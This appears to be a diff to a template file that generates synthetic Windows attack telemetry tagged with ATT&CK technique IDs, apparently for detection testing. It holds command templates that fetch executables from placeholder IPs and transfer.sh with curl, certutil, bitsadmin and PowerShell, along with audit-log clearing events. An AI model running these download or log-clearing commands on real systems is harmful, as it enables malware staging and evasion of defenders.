@@ -116,7 +116,7 @@ us-macro-child process +T1204.002: @ ;; «cmd.exe /c ‹name›.bat¦wscript.exe
 us-thread thread +T1055: ‹own› ;; «‹s32›\notepad.exe¦C:\Windows\explorer.exe¦‹s32›\svchost.exe¦‹s32›\spoolsv.exe»
 us-certutil-get process +T1105: @ ;; certutil«.exe¦» «-urlcache -split -f¦-urlcache -f¦-verifyctl -split -f¦/urlcache /f» http«s¦»://«‹ip›¦‹word›.com»/‹name›.«exe¦txt¦ps1¦dll» «‹own›¦‹name›.exe¦‹dir›\‹name›.txt» ;; «‹cmd›¦‹ps›»
 us-bitsadmin-get process +T1197: @ ;; bitsadmin«.exe¦» /transfer ‹name› «/Priority HIGH¦/download /priority foreground¦» http«s¦»://«‹ip›¦‹word›.com»/‹name›.exe ‹own› ;; «‹cmd›¦‹ps›»
-us-curl-get process +T1105: @ ;; «curl.exe -k -o ‹own› https://‹ip›/‹name›.exe¦curl -sLo ‹own› http://‹ip›/a¦powershell (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','‹own›')¦powershell Invoke-WebRequest http://‹ip›/‹name›.exe -OutFile ‹own›» ;; ‹cmd›
+us-curl-get process +T1105: @ ;; «curl.exe -k -o ‹own› https://‹ip›/‹name›.exe¦curl -sLo ‹own› http://‹ip›/a¦curl -k -o C:\ProgramData\‹name›.zip https://transfer.sh/get/‹letters8›/‹name›.zip¦curl --output ‹name›.txt http«s¦»://‹ip›/‹name›/‹name›.txt¦powershell (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','‹own›')¦powershell Invoke-WebRequest http://‹ip›/‹name›.exe -OutFile ‹own›» ;; ‹cmd›
 us-net-download sysmon +T1105: 3 ;; Image=‹s32›\«certutil¦bitsadmin¦esentutl».exe ;; Initiated=true ;; DestinationIp=‹ip› ;; DestinationPort=«80¦443¦8080¦8443»
 us-log-clear security +T1685.005: 1102 ;; Channel=Security ;; Message=The audit log was cleared.
 us-log-clear-104 log +T1685.005: Microsoft-Windows-Eventlog|System|104 ;; Channel=«Security¦System¦Application¦Windows PowerShell¦Microsoft-Windows-Sysmon/Operational» ;; BackupPath=
